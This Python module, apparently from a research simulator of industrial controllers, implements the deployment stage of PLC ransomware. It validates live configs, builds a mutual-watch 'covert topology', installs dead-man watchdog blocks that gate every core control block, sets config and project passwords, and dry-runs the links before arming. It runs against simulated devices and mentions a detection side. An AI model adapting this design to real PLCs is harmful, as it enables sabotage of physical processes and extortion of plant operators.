"""Preparation and rollout: online validation against the project file,
covert-topology derivation, staged watchdog installation with rollback, and
the pre-arm dry run.

Install talks to PLCs exclusively over config_read/config_write, the same
path a legitimate engineering tool would use, so every step it takes shows up
in the flow log and can be caught by the detection side.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from .fleet import Fleet
from .netfabric import DeliveryOutcome, NetMessage, ProtocolFunction
from .plc import (
    ALERT_DB,
    ALERT_DB_SIZE,
    DEADMAN_BLOCKS,
    POLL_DB,
    PlcDevice,
    PollAssignment,
)
from .project import ProjectModel, save_project

DELIVERED = DeliveryOutcome.DELIVERED


class DeployError(RuntimeError):
    pass


@dataclass
class CovertTopology:
    """Who polls whom. Edges double as watch relationships."""

    assignments: list = field(default_factory=list)  # PollAssignment, PLC to PLC
    ew_targets: list = field(default_factory=list)


@dataclass
class DeploymentPlan:
    deadline_ms: int
    ransom_key: str
    plc_password: str
    project_password: str
    topology: CovertTopology | None = None
    poll_interval_ms: int = 1000
    deadband_misses: int = 1
    watch_safe_shutdown: bool = False
    restore_outputs_on_disarm: bool = True
    locked_project_path: str | None = None

    def __post_init__(self):
        if self.deadline_ms <= 0:
            raise ValueError("deadline_ms must be positive")
        if self.poll_interval_ms <= 0 or self.deadband_misses <= 0:
            raise ValueError("poll settings must be positive")
        for name in ("ransom_key", "plc_password", "project_password"):
            if not getattr(self, name):
                raise ValueError(f"{name} must be non-empty")


@dataclass
class DeviceValidation:
    device: str
    match: str  # full_match | mismatch | unreachable
    diffs: list = field(default_factory=list)


@dataclass
class ValidationReport:
    results: list = field(default_factory=list)

    @property
    def all_match(self) -> bool:
        return all(r.match == "full_match" for r in self.results)

    def for_device(self, device_id: str) -> DeviceValidation:
        for r in self.results:
            if r.device == device_id:
                return r
        raise KeyError(device_id)

    def mismatch_artifacts(self) -> set:
        out = set()
        for r in self.results:
            for diff in r.diffs:
                out.add((r.device, diff))
        return out


@dataclass
class InstallReport:
    installed: list = field(default_factory=list)
    skipped: list = field(default_factory=list)
    artifacts: dict = field(default_factory=dict)  # device -> [artifact ids]
    aborted: bool = False
    reason: str = ""

    def artifact_set(self) -> set:
        return {(device, artifact)
                for device, items in self.artifacts.items()
                for artifact in items}


@dataclass
class DryRunReport:
    edges: list = field(default_factory=list)  # (src, dst, op, ok)

    @property
    def passed(self) -> bool:
        return all(ok for _, _, _, ok in self.edges)


# -- validation ---------------------------------------------------------------

def compare_device_config(project_dev, wire: dict) -> list[str]:
    """Field-for-field compare of a project device against a live snapshot.

    Returns artifact identifiers naming each deviation; empty means
    full_match. The identifiers use the same vocabulary the installer reports,
    which is what lets an install report be checked against a later diff.
    """
    diffs = []
    if wire.get("scan_interval_ms") != project_dev.scan_interval_ms:
        diffs.append("scan_interval:changed")
    live_blocks = {int(num): spec["size"] for num, spec in wire.get("data_blocks", {}).items()}
    for num, size in sorted(project_dev.data_blocks.items()):
        if num not in live_blocks:
            diffs.append(f"data_block:{num}:removed")
        elif live_blocks[num] != size:
            diffs.append(f"data_block:{num}:resized")
    for num in sorted(set(live_blocks) - set(project_dev.data_blocks)):
        diffs.append(f"data_block:{num}:added")
    project_names = [name for name, _ in project_dev.core_blocks]
    live_core = {blk["name"]: blk for blk in wire.get("core_blocks", [])}
    for name in project_names:
        if name not in live_core:
            diffs.append(f"core_block:{name}:removed")
        elif live_core[name].get("gated_by_alert"):
            diffs.append(f"core_block:{name}:gated")
    for name in sorted(set(live_core) - set(project_names)):
        diffs.append(f"core_block:{name}:added")
    for name in wire.get("code_blocks", []):
        diffs.append(f"code_block:{name}:added")
    project_cards = list(project_dev.output_cards)
    live_cards = wire.get("output_cards", [])
    for addr in project_cards:
        if addr not in live_cards:
            diffs.append(f"output_card:{addr}:removed")
    for addr in live_cards:
        if addr not in project_cards:
            diffs.append(f"output_card:{addr}:added")
    if wire.get("password_set"):
        diffs.append("config_password:set")
    return diffs


def validate_online(fleet: Fleet, credential: str | None = None) -> ValidationReport:
    """config_read every PLC and compare against the project."""
    report = ValidationReport()
    ew_id = fleet.ew.id
    for project_dev in fleet.project.plcs():
        msg = NetMessage(ew_id, project_dev.id, ProtocolFunction.CONFIG_READ, 0,
                         credential=credential)
        res = fleet.fabric.deliver(msg)
        if res is None or res.outcome is not DELIVERED:
            outcome = "in_flight" if res is None else res.outcome.value
            diffs = ["config_access:denied"] if outcome == "access_denied" else []
            report.results.append(DeviceValidation(project_dev.id, "unreachable", diffs))
            continue
        wire = json.loads(res.response_payload.decode())
        # sorted so reports can be compared against install receipts verbatim
        diffs = sorted(compare_device_config(project_dev, wire))
        report.results.append(DeviceValidation(
            project_dev.id, "full_match" if not diffs else "mismatch", diffs))
    return report


# -- covert topology ----------------------------------------------------------

def derive_covert_topology(project: ProjectModel, strategy: str = "all_neighbors") -> CovertTopology:
    """EW polls every PLC; each PLC polls its declared neighbours.

    The resulting covert graph must be connected or deployment is refused:
    a node nobody watches is a node whose death nobody notices.
    """
    if strategy not in ("all_neighbors", "spanning_tree"):
        raise DeployError(f"unknown strategy {strategy!r}")
    ew_id = project.ew().id
    plc_ids = [d.id for d in project.plcs()]
    neighbor_edges = set()
    for a, b in project.links:
        if a in plc_ids and b in plc_ids:
            neighbor_edges.add(frozenset((a, b)))

    if strategy == "spanning_tree" and neighbor_edges:
        adjacency = {p: set() for p in plc_ids}
        for edge in neighbor_edges:
            a, b = sorted(edge)
            adjacency[a].add(b)
            adjacency[b].add(a)
        root = plc_ids[0]
        seen = {root}
        frontier = [root]
        tree = set()
        while frontier:
            node = frontier.pop(0)
            for peer in sorted(adjacency[node]):
                if peer not in seen:
                    seen.add(peer)
                    tree.add(frozenset((node, peer)))
                    frontier.append(peer)
        neighbor_edges = tree

    slot_width = {p: 1 for p in plc_ids}  # slot 0 is the coordinator's
    assignments = []
    for a, b in sorted(tuple(sorted(edge)) for edge in neighbor_edges):
        for poller, target in ((a, b), (b, a)):
            slot = slot_width[target]
            slot_width[target] += 1
            assignments.append(PollAssignment(
                poller, target, (POLL_DB, slot // 8, slot % 8), watch_alert=True))

    topology = CovertTopology(assignments=assignments, ew_targets=list(plc_ids))
    _require_connected(topology, ew_id, plc_ids)
    return topology


def _require_connected(topology: CovertTopology, ew_id: str, plc_ids: list) -> None:
    adjacency: dict[str, set] = {ew_id: set()}
    for p in plc_ids:
        adjacency[p] = set()
    for target in topology.ew_targets:
        adjacency[ew_id].add(target)
        adjacency[target].add(ew_id)
    for a in topology.assignments:
        adjacency[a.poller].add(a.target)
        adjacency[a.target].add(a.poller)
    seen = {ew_id}
    stack = [ew_id]
    while stack:
        node = stack.pop()
        for peer in adjacency[node]:
            if peer not in seen:
                seen.add(peer)
                stack.append(peer)
    isolated = sorted(set(adjacency) - seen)
    if isolated:
        raise DeployError(f"covert graph is disconnected; unwatched devices: {isolated}")


# -- install ------------------------------------------------------------------

def poll_db_size(slots: int) -> int:
    return max(1, (slots + 7) // 8)


def install_switch(fleet: Fleet, plan: DeploymentPlan) -> InstallReport:
    """Install the watchdog on every PLC over config_write, all or nothing.

    Preserves existing memory contents and code; adds DB500/DB501, the four
    watchdog blocks, an alert gate on every core block, and the config
    password. Any failed write rolls back the devices already touched.
    """
    topology = plan.topology or derive_covert_topology(fleet.project)
    ew = fleet.ew
    _require_connected(topology, ew.id, [d.id for d in fleet.project.plcs()])
    report = InstallReport()
    originals: list[tuple[str, bytes]] = []

    incoming: dict[str, list] = {p: [] for p in topology.ew_targets}
    watch_slots: dict[str, dict] = {p: {(POLL_DB, 0, 0): ew.id} for p in topology.ew_targets}
    for a in topology.assignments:
        incoming.setdefault(a.target, []).append(a)
        incoming.setdefault(a.poller, incoming.get(a.poller, []))
        watch_slots.setdefault(a.target, {})[a.write_bit] = a.poller
        watch_slots.setdefault(a.poller, watch_slots.get(a.poller, {}))

    for target in topology.ew_targets:
        device = fleet.device(target)
        if not isinstance(device, PlcDevice):
            report.aborted = True
            report.reason = f"{target} is not a PLC"
            return report
        live = _read_config(fleet, ew.id, target, credential=None)
        if live is None:
            # A prior run may have set the password; retry with it so a
            # re-install stays an idempotent no-op instead of an abort.
            live = _read_config(fleet, ew.id, target, credential=plan.plc_password)
        if live is None:
            _rollback(fleet, ew.id, originals, plan.plc_password)
            report.aborted = True
            report.reason = f"{target}: configuration unreadable"
            return report
        if live.get("deadman"):
            report.skipped.append(target)  # already installed: idempotent no-op
            continue
        project_dev = fleet.project.device(target)
        diffs = compare_device_config(project_dev, live)
        if diffs:
            _rollback(fleet, ew.id, originals, plan.plc_password)
            report.aborted = True
            report.reason = f"{target}: live config does not match project: {diffs}"
            return report

        slots = 1 + len(incoming.get(target, []))
        new_wire = json.loads(json.dumps(live))  # deep copy of the live snapshot
        new_wire["data_blocks"][str(ALERT_DB)] = {"size": ALERT_DB_SIZE,
                                                  "data": "00" * ALERT_DB_SIZE}
        new_wire["data_blocks"][str(POLL_DB)] = {"size": poll_db_size(slots),
                                                 "data": "00" * poll_db_size(slots)}
        for blk in new_wire["core_blocks"]:
            blk["gated_by_alert"] = True
        new_wire["code_blocks"] = list(DEADMAN_BLOCKS)
        new_wire["password_set"] = True
        new_wire["config_password"] = plan.plc_password
        new_wire["deadman"] = {
            "coordinator": ew.id,
            "poll_interval_ms": plan.poll_interval_ms,
            "deadband_misses": plan.deadband_misses,
            "assignments": [
                {"poller": a.poller, "target": a.target,
                 "write_bit": list(a.write_bit), "watch_alert": a.watch_alert}
                for a in topology.assignments if a.poller == target
            ],
            "watch_slots": {f"{db}:{byte}:{bit}": who
                            for (db, byte, bit), who in watch_slots[target].items()},
            "watch_safe_shutdown": plan.watch_safe_shutdown,
            "restore_outputs_on_disarm": plan.restore_outputs_on_disarm,
        }
        payload = json.dumps(new_wire, sort_keys=True).encode()
        res = fleet.fabric.deliver(NetMessage(
            ew.id, target, ProtocolFunction.CONFIG_WRITE, 0, payload=payload))
        if res is None or res.outcome is not DELIVERED:
            _rollback(fleet, ew.id, originals, plan.plc_password)
            report.aborted = True
            report.reason = f"{target}: config write failed"
            return report
        originals.append((target, json.dumps(live, sort_keys=True).encode()))
        report.installed.append(target)
        report.artifacts[target] = _artifacts_for(live, slots)
        fleet.trace.emit(fleet.kernel.now(), target, "installed",
                         blocks=len(DEADMAN_BLOCKS), slots=slots)

    ew.targets = list(topology.ew_targets)
    fleet.covert = topology
    fleet.plan = plan
    if plan.locked_project_path:
        unlock = fleet.project.password
        save_project(fleet.project, plan.locked_project_path,
                     password=plan.project_password, unlock=unlock)
    return report


def _artifacts_for(live_wire: dict, slots: int) -> list[str]:
    artifacts = [f"data_block:{ALERT_DB}:added", f"data_block:{POLL_DB}:added"]
    artifacts.extend(f"code_block:{name}:added" for name in DEADMAN_BLOCKS)
    artifacts.extend(f"core_block:{blk['name']}:gated" for blk in live_wire.get("core_blocks", []))
    artifacts.append("config_password:set")
    return sorted(artifacts)


def _read_config(fleet: Fleet, src: str, target: str, credential: str | None) -> dict | None:
    res = fleet.fabric.deliver(NetMessage(
        src, target, ProtocolFunction.CONFIG_READ, 0, credential=credential))
    if res is None or res.outcome is not DELIVERED:
        return None
    return json.loads(res.response_payload.decode())


def _rollback(fleet: Fleet, ew_id: str, originals: list, credential: str) -> None:
    for target, payload in reversed(originals):
        fleet.fabric.deliver(NetMessage(
            ew_id, target, ProtocolFunction.CONFIG_WRITE, 0,
            payload=payload, credential=credential))


# -- dry run ------------------------------------------------------------------

def dry_run(fleet: Fleet) -> DryRunReport:
    """Exercise every covert edge with dummy traffic while enable is 0.

    Raises if run before install or after arming; the whole point is to catch
    dead paths before they can detonate anything.
    """
    if fleet.covert is None:
        raise DeployError("dry run requires an installed fleet")
    if fleet.ew.armed:
        raise DeployError("dry run rejected: fleet is already armed")
    ew = fleet.ew
    report = DryRunReport()
    for target in fleet.covert.ew_targets:
        res = fleet.fabric.deliver(NetMessage(
            ew.id, target, ProtocolFunction.EW_WRITE, POLL_DB, 0, 0, b"\x00"))
        report.edges.append((ew.id, target, "ew_write", bool(res and res.outcome is DELIVERED)))
        res = fleet.fabric.deliver(NetMessage(
            ew.id, target, ProtocolFunction.EW_READ, ALERT_DB, 0))
        report.edges.append((ew.id, target, "ew_read", bool(res and res.outcome is DELIVERED)))
    for a in fleet.covert.assignments:
        db, byte, bit = a.write_bit
        res = fleet.fabric.deliver(NetMessage(
            a.poller, a.target, ProtocolFunction.PUT_WRITE, db, byte, bit, b"\x00"))
        report.edges.append((a.poller, a.target, "put_write", bool(res and res.outcome is DELIVERED)))
        if a.watch_alert:
            res = fleet.fabric.deliver(NetMessage(
                a.poller, a.target, ProtocolFunction.GET_READ, ALERT_DB, 0))
            report.edges.append((a.poller, a.target, "get_read", bool(res and res.outcome is DELIVERED)))
    ok = sum(1 for _, _, _, good in report.edges if good)
    fleet.trace.emit(fleet.kernel.now(), ew.id, "dry_run",
                     edges=len(report.edges), ok=ok)
    return report
